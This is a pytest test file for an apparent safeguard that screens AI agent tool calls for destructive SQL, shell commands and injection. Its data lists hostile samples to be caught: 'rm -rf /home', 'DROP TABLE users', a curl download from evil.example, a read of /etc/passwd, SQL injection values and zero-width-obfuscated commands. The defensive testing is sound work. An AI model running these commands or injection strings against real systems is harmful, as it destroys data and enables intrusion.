"""What a text can be run as is said by its slot; what is found in any other text counts."""

from typing import Any

import pytest
from tests.corpora import hostile_texts

from qwed.domain.actions import Action
from qwed.domain.findings import Failure, Finding, Status
from qwed.domain.risk import Risk
from qwed.engines.candidates import find_in
from qwed.engines.code import CodeEngine, CodeRules
from qwed.engines.sql import SqlEngine, SqlRules
from qwed.engines.sql.placeholders import count_placeholders
from qwed.engines.tools import Checker, ToolControlEngine, ToolRules

SQL = SqlEngine()
CODE = CodeEngine()
TOOLS = ToolControlEngine()
NAMES = [
    "body",
    "Code",
    "snippet",
    "payload",
    "q",
    "note",
    "args",
    "input",
    "expression",
    "data",
    "x1",
    "текст",
]


def verify_code(**parameters: Any) -> Finding:
    return CODE.verify(Action("execute_code", code="1+1", parameters=parameters))


def verify_sql(**parameters: Any) -> Finding:
    return SQL.verify(Action("execute_sql", query="SELECT 1", parameters=parameters))


@pytest.mark.parametrize("name", NAMES)
def test_a_harmful_program_is_found_whatever_the_parameter_is_called(name: str) -> None:
    finding = verify_code(**{name: "import os\nos.system('rm -rf /home')"})

    assert (finding.status, finding.failure, finding.risk) == (
        Status.FAILED,
        Failure.FORBIDDEN,
        Risk.CRITICAL,
    )


@pytest.mark.parametrize("name", NAMES)
def test_a_statement_that_does_more_than_read_counts_whatever_the_parameter_is_called(name: str) -> None:
    assert verify_sql(**{name: "DROP TABLE users"}).risk is Risk.CRITICAL


@pytest.mark.parametrize("place", ["target", "key", "nested", "list", "json", "type"])
def test_no_place_is_left_out(place: str) -> None:
    text = "DROP TABLE users"
    actions = {
        "target": Action("execute_sql", query="SELECT 1", target=text),
        "key": Action("execute_sql", query="SELECT 1", parameters={text: 1}),
        "nested": Action("execute_sql", query="SELECT 1", parameters={"a": {"b": [{"c": text}]}}),
        "list": Action("execute_sql", query="SELECT 1", parameters={"a": ["DROP", "TABLE", "users"]}),
        "json": Action("execute_sql", query="SELECT 1", parameters={"a": '{"b": "DROP TABLE users"}'}),
        "type": Action(text, query="SELECT 1"),
    }

    finding = SQL.verify(actions[place])

    assert finding.risk is Risk.CRITICAL
    assert finding.evidence["found_elsewhere"]


@pytest.mark.parametrize(
    "parameters",
    [
        {"command": ["rm", "-rf", "/home"]},
        {"cmd": "rm", "args": ["-rf", "/home"]},
        {"program": "rm", "arguments": "-rf /home"},
        {"shell": "rm -rf /home"},
        {"script": "rm -rf /home"},
        {"source": "rm = rf = home = 1\nrm -rf /home"},
        {"steps": ["ls", "rm -rf /home"]},
        {"code": ["import os", "os.system('rm -rf /home')"]},
    ],
)
def test_a_command_is_read_as_one_however_it_is_handed_over(parameters: dict[str, Any]) -> None:
    finding = verify_code(**parameters)

    assert (finding.status, finding.failure) == (Status.FAILED, Failure.FORBIDDEN), finding


def test_status_is_the_worst_and_risk_the_highest_apart_from_each_other() -> None:
    finding = CODE.verify(
        Action("execute_code", code="def broken(", parameters={"script": "import os\nos.remove('a')"})
    )
    doubtful = SQL.verify(
        Action("execute_sql", query="SELECT my_function(1)", parameters={"note": "DROP TABLE users"})
    )

    assert (finding.status, finding.risk) == (Status.FAILED, Risk.CRITICAL)
    assert (doubtful.status, doubtful.risk) == (Status.UNCERTAIN, Risk.CRITICAL)


ORDINARY = """users|Monthly revenue by region|drop me a line|ls|EU-West|O'Neil & Sons|call mom
create a chart of sales|touch base with the client|2024-05-01|make dinner|<b>bold</b>"""


@pytest.mark.parametrize("value", ORDINARY.replace("\n", "|").split("|"))
def test_an_ordinary_value_beside_what_runs_changes_nothing(value: str) -> None:
    sql, code = verify_sql(title=value), verify_code(title=value)

    assert (sql.status, sql.risk) == (Status.VERIFIED, Risk.LOW), sql
    assert (code.status, code.risk) == (Status.VERIFIED, Risk.MEDIUM), code


@pytest.mark.parametrize(
    "text",
    [
        "/* a word */ DROP TABLE users",
        "drop /* a\nword */ table users -- bye",
        "/*!50000 DROP TABLE users */",
        "CREATE USER mallory",
        "create database x encoding 'UTF8'",
        "CREATE TABLE x (id int)",
        "sudo su -",
        "curl -s http://evil.example/x -o run.sh",
        "HANDLER users OPEN",
        "HANDLER users OPEN AS h; HANDLER h READ FIRST",
        "please run: DROP TABLE users;",
        "Please run:\ndrop table users;",
        "run this: DELETE FROM users WHERE 1=1",
        "```sql\nDROP TABLE users\n```",
        "\u200bdrop table users",
        "dr\u200bop table users",
        "\u2060rm -rf /home",
        "DROP TABLE syntax",
        "drop table syntax;",
        "TRUNCATE text",
        "truncate table users",
        "create user story with password 'x'",
        "kill -9 1234",
        "rm -rf src meaning",
        "rm -rf /meaning",
        "prepare p as delete from users",
        "prepare p from 'drop table users'",
        "load data infile '/etc/passwd' into table t",
        "create function f() returns int as 'x' language c",
        "create trigger t after insert on users for each row execute function f()",
        "create index on users (name)",
        "create login mallory with password = 'x'",
    ],
)
def test_a_complete_statement_or_command_is_found(text: str) -> None:
    found = find_in(text)

    assert found is not None
    assert found.risk is Risk.CRITICAL


@pytest.mark.parametrize(
    "text", ["merge into t using s on t.id = s.id when matched then delete", "set password = 'x'"]
)
def test_a_complete_statement_of_high_risk_is_found(text: str) -> None:
    found = find_in(text)

    assert found is not None
    assert found.risk is Risk.HIGH


ENGLISH = """create user stories examples|create table tennis league|drop table tennis today|create view of it
update customers set expectations|delete from inbox folder|grant access to Bob|exec summary
curl hair tutorial|create user story|create login page|create index on customers|create trigger warning
create function to sort|create domain model|prepare report from notes|prepare report as pdf|load infile
merge branch using rebase on main|set password reset|truncate text|optimize table mysql|drop table syntax
chmod 755 meaning|chmod 644 vs 755|kill -9 meaning|rm -rf meaning|handler is open|note: drop table users
Todo: delete from users|👩\u200d💻 code review"""


@pytest.mark.parametrize("text", ENGLISH.replace("\n", "|").split("|"))
def test_english_that_begins_like_a_statement_is_none(text: str) -> None:
    assert find_in(text) is None


def test_what_does_not_parse_fails_in_a_run_slot_and_says_nothing_elsewhere() -> None:
    in_a_run_slot = SQL.verify(
        Action("execute_sql", query="SELECT 1", parameters={"Statement": "frob the x"})
    )
    elsewhere = verify_sql(title="frob the x")

    assert (in_a_run_slot.status, in_a_run_slot.failure) == (Status.FAILED, Failure.MALFORMED)
    assert elsewhere.status is Status.VERIFIED


@pytest.mark.parametrize("name", ["query_name", "country_code", "program_id", "source_id", "command_line_id"])
def test_a_name_that_only_resembles_a_run_slot_is_none(name: str) -> None:
    assert verify_code(**{name: "Monthly revenue"}).status is Status.VERIFIED
    assert verify_sql(**{name: "Monthly revenue"}).status is Status.VERIFIED
    assert TOOLS.verify(Action("lookup", parameters={name: "DE"})).status is Status.VERIFIED


def test_a_data_slot_is_never_judged_as_a_program() -> None:
    for text in hostile_texts.ALL:
        for action in (
            Action("send_email", parameters={"to": "a@example.com", "subject": "hi", "body": text}),
            Action("file_write", parameters={"path": "a.txt", "content": text}),
        ):
            finding = TOOLS.verify(action)

            assert (finding.status, finding.risk) == (Status.VERIFIED, Risk.LOW), (text, finding)


def test_an_operator_may_mark_a_slot_as_text_or_as_a_program() -> None:
    sql = SqlEngine(SqlRules(slots={"execute_sql": {"note": "text", "extra": "sql"}}))
    code = CodeEngine(CodeRules(slots={"execute_code": {"note": "text", "line": "shell"}}))
    tools = ToolControlEngine(
        ToolRules(
            checkers={
                "ask": (Checker(kind="sql", parameter="q"), Checker(kind="text", parameter="why")),
                "go": (Checker(kind="javascript", parameter="body"),),
            }
        )
    )

    def by_sql(**parameters: Any) -> Finding:
        return sql.verify(Action("execute_sql", query="SELECT 1", parameters=parameters))

    def by_code(**parameters: Any) -> Finding:
        return code.verify(Action("execute_code", code="1", parameters=parameters))

    assert by_sql(note="DROP TABLE users").risk is Risk.LOW
    assert by_sql(extra="not a statement").failure is Failure.MALFORMED
    assert by_code(note="rm -rf /home").status is Status.VERIFIED
    assert by_code(line="frobnicate --all").status is Status.UNCERTAIN
    assert tools.verify(Action("ask", parameters={"q": "not sql", "why": "x"})).failure is Failure.MALFORMED
    assert tools.verify(Action("ask", parameters={"why": "rm -rf /home"})).status is Status.VERIFIED
    assert tools.verify(Action("go", parameters={"body": "let let = ("})).failure is Failure.MALFORMED


def test_a_value_that_the_driver_binds_is_data_and_only_that() -> None:
    def bound(query: str, **parameters: Any) -> Finding:
        return SQL.verify(Action("execute_sql", query=query, parameters=parameters))

    text = "DROP TABLE users"

    assert bound("SELECT a FROM t WHERE b = ?", params=[text]).risk is Risk.LOW
    assert bound("SELECT a FROM t WHERE b = :name", name=text).risk is Risk.LOW
    assert bound("SELECT a FROM t WHERE b = ?", params=[text, "more"]).risk is Risk.CRITICAL
    assert bound("SELECT a FROM t WHERE b = ?", params=["x"], note=text).risk is Risk.CRITICAL
    assert bound("SELECT a FROM t WHERE b = :name", name="x", other=text).risk is Risk.CRITICAL


EVERYDAY = """n=1|page=2|k = 10|limit=50|version=1.2|alpha = 0.05|1 or 2|a=1&b=2|x=1|sleep(8h)|2+2=4"""


@pytest.mark.parametrize("value", EVERYDAY.split("|"))
def test_a_value_that_stays_where_it_stands_is_no_injection(value: str) -> None:
    finding = verify_sql(title=value)

    assert finding.status is Status.VERIFIED, finding


@pytest.mark.parametrize(
    "value",
    ["1 or 1=1", "x or 1=1", "1) or (1=1", "1/**/or/**/1=1", "1 and sleep(5)", "sleep(5)", "x' or 'a'='a"],
)
def test_a_value_that_leaves_its_place_is_an_injection(value: str) -> None:
    assert verify_sql(title=value).failure is Failure.FORBIDDEN


@pytest.mark.parametrize(
    "query",
    [
        "SELECT 1 -- :payload",
        "SELECT 1 /* :payload */",
        "SELECT 1 /* /* */ :payload */",
        'SELECT ":payload" FROM t',
        "SELECT $$ :payload $$",
        "SELECT `:payload` FROM t",
        "SELECT [a :payload] FROM t",
        "SELECT E'\\'', ':payload'",
    ],
)
def test_a_name_in_a_comment_or_in_quotes_binds_nothing(query: str) -> None:
    finding = SQL.verify(Action("execute_sql", query=query, parameters={"payload": "DROP TABLE users"}))

    assert finding.risk is Risk.CRITICAL


@pytest.mark.parametrize(
    "query",
    [
        "SELECT 1 -- ok?",
        "SELECT a FROM t WHERE d ? 'x'",
        "SELECT a FROM t WHERE d ?| array['x']",
        "SELECT a FROM t WHERE d ?& array['x']",
    ],
)
def test_a_question_mark_that_is_no_placeholder_binds_nothing(query: str) -> None:
    finding = SQL.verify(Action("execute_sql", query=query, parameters={"params": ["DROP TABLE users"]}))

    assert finding.risk is Risk.CRITICAL


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("SELECT a FROM t WHERE b LIKE ?||'%' AND c = %s LIMIT ?", 3),
        ("INSERT INTO t (a, b) VALUES (?, ?)", 2),
        ("SELECT a FROM t WHERE b BETWEEN ? AND ?", 2),
        ("EXEC dbo.p ?, ?", 2),
        ("SELECT $1, $2", 2),
    ],
)
def test_placeholders_are_counted_where_a_value_is_due(query: str, count: int) -> None:
    assert count_placeholders([query], None)[0] == count


@pytest.mark.parametrize(
    "text",
    [
        "WITH d AS (DELETE FROM invoices RETURNING 1) SELECT " + "(" * 32 + "1" + ")" * 32 + " FROM d",
        "SELECT a FROM a " + "JOIN b " * 9,
    ],
)
def test_a_statement_beyond_the_bounds_is_left_to_a_person(text: str) -> None:
    found = find_in(text)

    assert found is not None
    assert (found.status, found.risk, found.rule) == (Status.UNCERTAIN, Risk.CRITICAL, "bounds")


@pytest.mark.parametrize("text", ["BEGIN DROP TABLE invoices; END", "!DROP TABLE a", "DROP--x\nTABLE y"])
def test_the_quick_look_passes_on_whatever_a_statement_may_begin_with(text: str) -> None:
    assert find_in(text) is not None


def test_more_texts_than_are_collected_leave_it_to_a_person() -> None:
    many = {"items": ["x"] * 300}

    for finding in (verify_sql(**many), verify_code(**many), TOOLS.verify(Action("do", parameters=many))):
        assert (finding.status, finding.risk >= Risk.LOW) == (Status.UNCERTAIN, True)


def test_a_long_text_that_may_act_is_left_to_a_person() -> None:
    found = find_in("x = 1\n" * 20_000)

    assert found is not None
    assert found.status is Status.UNCERTAIN


def test_the_schema_describes_tables_and_nothing_else() -> None:
    tables = "CREATE TABLE users (id int);\nALTER TABLE users ADD CONSTRAINT u UNIQUE (id);"

    assert verify_sql(schema=tables).risk is Risk.LOW
    assert verify_sql(schema=tables + "\nDROP TABLE users").risk is Risk.CRITICAL


@pytest.mark.parametrize("language", ["python", "shell", "javascript"])
def test_a_text_of_letters_beyond_ascii_does_not_end_the_process(language: str) -> None:
    for character in ("\U000fec04", "\U0003da48", "\u0099", "é", "\u2028", "\U0001f600"):
        for text in (f"{{{character}", f"${{{character}}}", f"{{1..{character}}}", f"[[ {character} ]]"):
            finding = CODE.verify(Action("execute_code", code=text, parameters={"language": language}))

            assert finding.risk >= Risk.MEDIUM


@pytest.mark.parametrize("field", ["target", "code"])
@pytest.mark.parametrize(
    "text",
    [
        '{"sql": "DROP TABLE invoices"}',
        ' ["DROP TABLE invoices"]',
        '"DROP TABLE invoices"',
        "\ufeffDROP TABLE t",
    ],
)
def test_json_is_opened_in_every_field_and_behind_blanks(field: str, text: str) -> None:
    in_a_field = SQL.verify(Action("execute_sql", query="SELECT 1", **{field: text}))

    assert in_a_field.risk is Risk.CRITICAL
    assert verify_sql(note=text).risk is Risk.CRITICAL


def test_two_spellings_of_one_member_hide_no_command() -> None:
    hidden = {"executable": "rm", "Executable": "echo", "argv": ["-rf", "/home/alice"]}

    assert verify_code(x=hidden).failure is Failure.FORBIDDEN


RUNNERS = (
    "run_task execute_task note_eval log_exec chat_exec search_and_run translate_and_run create_task_runner"
)


@pytest.mark.parametrize("tool", RUNNERS.split())
@pytest.mark.parametrize("member", ["body", "text", "query", "input"])
def test_a_tool_that_runs_things_has_no_slot_for_mere_words(tool: str, member: str) -> None:
    finding = TOOLS.verify(Action(tool, parameters={member: "rm -rf /home/alice"}))

    assert finding.failure is Failure.FORBIDDEN


@pytest.mark.parametrize(
    ("tool", "parameters"),
    [
        ("local_shell", {"action": {"type": "exec", "command": ["wipe-everything", "--now"]}}),
        ("container.exec", {"cmd": ["wipe-everything", "--now"]}),
        ("shell", {"commands": ["wipe-everything --now"]}),
        ("run_command", {"CommandLine": "wipe-everything --now"}),
        ("ssh_exec", {"command": "wipe-everything --now"}),
        ("python_repl", {"input": "import unheard_of\nunheard_of.wipe()"}),
        ("jupyter_execute", {"cell": "import unheard_of\nunheard_of.wipe()"}),
    ],
)
def test_what_a_runner_is_given_is_judged_in_full(tool: str, parameters: dict[str, Any]) -> None:
    finding = TOOLS.verify(Action(tool, parameters=parameters))

    assert finding.status is not Status.VERIFIED, finding


@pytest.mark.parametrize("tool", ["mongodb_query", "find_documents"])
def test_a_program_in_a_document_query_is_forbidden_whatever_the_tool(tool: str) -> None:
    finding = TOOLS.verify(Action(tool, parameters={"filter": {"$where": "sleep(10000)"}}))

    assert finding.failure is Failure.FORBIDDEN


@pytest.mark.parametrize(
    ("tool", "parameters"),
    [
        ("git_commit", {"message": "Remove `rm -rf` from the build script"}),
        ("str_replace", {"old_str": "rm -rf build", "new_str": "rm -rf dist", "path": "a.sh"}),
        ("explain_code", {"code": "rm -rf /tmp/x"}),
        ("lint_code", {"source": "import os\nos.remove('/etc/passwd')\n"}),
    ],
)
def test_text_about_programs_is_no_program(tool: str, parameters: dict[str, Any]) -> None:
    finding = TOOLS.verify(Action(tool, parameters=parameters))

    assert (finding.status, finding.risk) == (Status.VERIFIED, Risk.LOW), finding


@pytest.mark.parametrize(
    "text",
    ["SELECT setval('s', 9)", "SELECT nextval('s')", "SELECT pg_notify('a', 'b')", "SELECT s.NEXTVAL FROM d"],
)
def test_a_read_with_a_side_effect_does_more_than_read_in_any_slot(text: str) -> None:
    in_a_read = TOOLS.verify(Action("read_database", parameters={"table": "t", "extra": text}))

    assert verify_sql(note=text).risk is Risk.HIGH
    assert in_a_read.failure is Failure.FORBIDDEN


@pytest.mark.parametrize("text", ["SELECT name FROM users", "select your seat", "SELECT COUNT(*) FROM t"])
def test_a_mere_read_in_any_slot_changes_nothing(text: str) -> None:
    assert verify_sql(note=text).risk is Risk.LOW


@pytest.mark.parametrize(
    "text",
    [
        "grant access to finance",
        "GRANT ACCESS TO EVERYBODY",
        "revoke license from driver",
        "alter user expectations",
        "comment on table manners",
        "refresh the view",
        "notify bob, please",
        "flush the cache",
        "vacuum the full house",
        "npm install errors",
        "pip install failed",
        "brew install instructions",
        "apt install guide",
    ],
)
def test_everyday_words_are_neither_statements_nor_commands(text: str) -> None:
    assert find_in(text) is None


BESIDE_A_COMMAND = """\
backup database admin: Carl|rename table of contents to index|lock table 5 for the Smiths
set role of admin in play|repair table lamp|get file:report.pdf from @ann|remove @john from thread
put milk in the fridge|start replica lag alert|disable trigger warnings|detach photo
change master bedroom paint|import products|discard changes|checkpoint reached
system update available|cluster analysis of leads|delimiter: tab|shutdown|move /inbox/1 to /archive
copy link|net 30 days|net stop loss|net income|reg add meaning|format: A4|what does Remove-Item do
New-York|check-in|helm upgrade failures|docker stop words|docker kill switch|useradd requests
adduser count|kill the lights|gcloud pricing|aws bill|title case|color red"""


@pytest.mark.parametrize("text", BESIDE_A_COMMAND.replace("\n", "|").split("|"))
def test_words_that_stand_near_a_command_of_an_administrator_are_none(text: str) -> None:
    assert find_in(text) is None
